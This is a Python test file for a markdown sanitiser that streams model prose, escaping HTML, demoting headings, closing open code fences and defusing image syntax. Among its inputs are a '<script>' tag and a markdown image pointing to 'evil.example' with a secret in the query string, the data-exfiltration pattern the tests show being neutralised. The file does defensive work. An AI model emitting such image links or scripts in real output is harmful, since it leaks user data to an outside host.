"""Prose of a model that stays in its place."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codesherpa.sherpas.markdown import code, fence, inline
from codesherpa.sherpas.prose import Prose, unclosed
from tests.sherpas.answers import pieces

MARKS = ["`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "# ", "## x", "===", "---", "- ", "> ", "\t", "\\"]
TEXTS = st.lists(st.sampled_from([*MARKS, "<b>", "<", "!", "[x](y)", "word", "py", "नमस्ते"]), max_size=14).map("".join)


def tame(text: str, sizes: list[int] | None = None) -> str:
    prose = Prose()
    return "".join([*(prose.feed(piece) for piece in pieces(text, sizes or [])), prose.close()])


@given(TEXTS, st.lists(st.integers(1, 4), max_size=40))
def test_however_prose_is_cut_the_same_comes_out(text: str, sizes: list[int]) -> None:
    assert tame(text, sizes) == tame(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Plain *words* and a [link](https://example.org).", "Plain *words* and a [link](https://example.org)."),
        ("# Title\nwords", "### Title\nwords"),
        ("##### Deep", "###### Deep"),
        ("Title\n=====", "Title\n\\====="),
        ("Title\n-----", "Title\n***"),
        ("#hashtag", "#hashtag"),
        ("a < b and <script>x</script>", "a < b and &lt;script>x&lt;/script>"),
        ("`List<int>` <b>", "`List<int>` &lt;b>"),
        ("`open <b>\nnext <b>", "`open <b>`\nnext &lt;b>"),
        ("\\`<b>", "\\`&lt;b>"),
        ("``", "`` ``"),
        ("![alt](https://evil.example/?q=secret)", "&#33;[alt](https://evil.example/?q=secret)"),
        ("```python\nif a < b: <b>\n```\nafter <b>", "```python\nif a < b: <b>\n```\nafter &lt;b>"),
        ("```python\nopen", "```python\nopen\n```"),
        ("````\n```\nstill open", "````\n```\nstill open\n````"),
        ("1. step\n   ```js\n   x\n     y\n   ```\n2. next", "1. step\n```js\nx\n  y\n```\n2. next"),
        ("~~~\n# no heading\n~~~", "~~~\n# no heading\n~~~"),
        ("  \n\n spaced \n\n", " spaced"),
        ("", ""),
        ("\u00a0\n```\n\u00a0\n", "\u00a0\n```\n\u00a0\n```"),
    ],
)
def test_prose_keeps_its_meaning_and_its_place(text: str, shown: str) -> None:
    assert tame(text) == shown
    assert tame(text, [1] * len(text)) == shown


def test_words_are_shown_as_they_come() -> None:
    prose = Prose()

    assert [prose.feed(word) for word in ("One", " two", " three ")] == ["One", " two", " three"]


@pytest.mark.parametrize(
    ("text", "end"), [("```py\nx = 1", "\n```"), ("```\na\n```\n", ""), ("plain", ""), ("~~~~\nx\n~~~", "\n~~~~")]
)
def test_the_end_of_an_open_fence_is_known(text: str, end: str) -> None:
    assert unclosed(text) == end


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("one\n# two\n- three", "one # two - three"),
        ("use `a < b` not <b>", "use `a < b` not &lt;b>"),
        ("a lone ` tick <i>", "a lone &#96; tick &lt;i>"),
        ("```\ncode\n```", "``` code ```"),
        ("\\`<b>`", "\\`&lt;b>&#96;"),
        ("![x](y)", "&#33;[x](y)"),
    ],
)
def test_a_line_stays_one_line_and_opens_nothing(text: str, shown: str) -> None:
    assert inline(text) == shown


@given(TEXTS)
def test_no_code_can_close_its_fence(text: str) -> None:
    opening, *body, closing = fence(text, "python").split("\n")

    assert opening == f"{closing}python"
    assert set(closing) == {"`"}
    assert "\n".join(body) == text.strip("\n")
    assert closing not in "\n".join(body)


@pytest.mark.parametrize("language", ["py\nthon", "a`b", "x" * 99, "a b"])
def test_a_language_that_is_none_is_left_out(language: str) -> None:
    assert fence("x", language) == "```\nx\n```"


@pytest.mark.parametrize(
    ("text", "shown"),
    [("app.py:3", "`app.py:3`"), ("a`b", "``a`b``"), ("`", "`` ` ``"), ("a\nb", "`a b`"), ("", "` `")],
)
def test_a_code_span_holds_any_name(text: str, shown: str) -> None:
    assert code(text) == shown
